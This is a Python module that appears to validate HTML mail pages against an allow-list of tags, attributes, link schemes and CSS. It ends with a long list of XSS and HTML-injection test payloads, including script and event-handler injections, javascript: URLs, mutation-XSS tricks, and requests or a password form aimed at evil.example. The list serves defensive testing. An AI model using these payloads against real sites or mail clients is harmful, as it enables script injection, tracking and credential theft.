"""What may stand in a page that is shown, read by another parser than the one that made it."""

import html.parser
import re

from mailgate.message import elements

LINK = re.compile(r"(?:https?://|mailto:|tel:)[^\s<>\"'\\]+", re.IGNORECASE)
IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*")
WRONG_STYLE = re.compile(
    r"url|expression|position|fixed|absolute|z-index|opacity|float|import|behavio|binding|script"
    r"|transform(?!:(?:upper|lower|cap))|content|filter|@|\\|/\*|[:\s,(]-\d|\d{4,}",
    re.IGNORECASE,
)
ATTRIBUTES = {
    "href", "src", "rel", "style", "alt", "title", "align", "valign", "bgcolor", "color", "face",
    "size", "dir", "type", "width", "height", "border", "cellpadding", "cellspacing", "colspan",
    "rowspan", "start",
}  # fmt: skip


class _Reader(html.parser.HTMLParser):
    """Objects to everything that no mail may do to its reader."""

    def __init__(self, tags: frozenset[str], attributes: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = tags, attributes
        self.objections: list[str] = []
        self.words: list[str] = []
        self.depth = self.deepest = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.objections.append(f"<{tag}>")
        if tag not in ("br", "hr", "img", "col", "meta"):
            self.depth += 1
            self.deepest = max(self.depth, self.deepest)
        for name, value in attrs:
            if not _may_stand(tag, name, value or "", self.attributes):
                self.objections.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.objections.append("<a> without rel")

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def handle_comment(self, data: str) -> None:
        self.objections.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.objections.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.objections.append(f"<![{data}")

    def handle_pi(self, data: str) -> None:
        self.objections.append(f"<?{data}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def _may_stand(tag: str, name: str, value: str, attributes: frozenset[str]) -> bool:
    if name not in attributes:
        return False
    match name:
        case "href":
            return tag == "a" and LINK.fullmatch(value) is not None
        case "src":
            return tag == "img" and IMAGE.fullmatch(value) is not None
        case "style":
            return WRONG_STYLE.search(value) is None
    return True


def objections_to(
    page: str, tags: frozenset[str] = elements.KEPT, attributes: frozenset[str] = frozenset()
) -> list[str]:
    """Return what is wrong with a page. tags, attributes: what may stand in it beside a mail's."""
    reader = _Reader(elements.KEPT | tags, frozenset(ATTRIBUTES) | attributes)
    reader.feed(page)
    reader.close()
    found = list(reader.objections)
    if reader.deepest > elements.MAX_DEPTH + 20:
        found.append(f"{reader.deepest} deep")
    return found


def words_of(page: str) -> str:
    """Return what is to be read in a page."""
    reader = _Reader(elements.KEPT, frozenset(ATTRIBUTES))
    reader.feed(page)
    reader.close()
    return "".join(reader.words)


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img src=\"x\"\"onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=javascript:alert(1)>",
    "<img src=JaVaScRiPt:alert(1)>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=\" &#14; javascript:alert(1)\">",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=# onmouseover=\"alert(1)\">",
    "<img onerror=alert(1) src=/ >",
    "<img src=\"http://evil.example/p.gif\">",
    "<img src=\"//evil.example/p.gif\">",
    "<img src=\"\\\\evil.example\\p.gif\">",
    "<img src=\"https://evil.example/p.gif\" width=1 height=1>",
    "<img srcset=\"https://evil.example/a.png 1x, //evil.example/b.png 2x\">",
    "<img lowsrc=https://evil.example/p.gif dynsrc=https://evil.example/q.gif>",
    "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<img src=\"data:image/png,<script>alert(1)</script>\">",
    "<img src=cid:missing onload=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://a/b\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/logout\">x</a>",
    "<a href=\"#top\" id=top name=top>x</a>",
    "<a href=\"http://a.example\" target=_blank rel=opener ping=//evil.example>x</a>",
    "<a href=http://a.example onclick=alert(1)>x</a>",
    "<a href=\"http://a.example/\"onmouseover=\"alert(1)\">x</a>",
    "<a href=\"http://a.example/' onmouseover='alert(1)\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href=\"javascript:/a/\">",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
    "<body onload=alert(1) background=//evil.example/x.png>",
    "<table background=\"javascript:alert(1)\"><td background=//evil.example/x.png>x</table>",
    "<video src=//evil.example/v onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=//evil.example/x.png>",
    "<form action=//evil.example><input type=password name=p><button>OK</button></form>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea><img src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open style=position:fixed>x</dialog>",
    "<keygen autofocus onfocus=alert(1)>",
    "<bgsound src=//evil.example/x.wav>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<div style=\"position: absolute; inset: 0\">x</div>",
    "<div style=\"margin-top:-9999px\">x</div>",
    "<div style=\"margin: 0 -500px\">x</div>",
    "<div style=\"z-index:2147483647;opacity:0\">x</div>",
    "<div style=\"transform:scale(100)\">x</div>",
    "<div style=\"width:99999px;font-size:9999px\">x</div>",
    "<div style=\"background:url(//evil.example/x.png)\">x</div>",
    "<div style=\"background-image: u\\rl(//evil.example/x.png)\">x</div>",
    "<div style=\"background: U&#82;L( 'https://evil.example/x' )\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"wi/**/dth: exp/**/ression(alert(1))\">x</div>",
    "<div style=\"-moz-binding:url(//evil.example/x.xml#y)\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<div style=\"list-style:url(//evil.example/x)\">x</div>",
    "<div style=\"color:red;}body{display:none\">x</div>",
    "<div style='content:\"x\";font-family:\"a;b\"'>x</div>",
    "<div class=mail id=main>x</div>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "</div></div></article></main><script>alert(1)</script>",
    "</title></style></textarea></noscript><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<%= 7*7 %>{% raw %}",
    "javascript:alert(1)//<a href='",
    "x onmouseover=alert(1) y=",
    "\" onfocus=alert(1) autofocus=\"",
    "`><img src=x onerror=alert(1)>`",
    "\u202egnp.exe<script>",
]  # fmt: skip
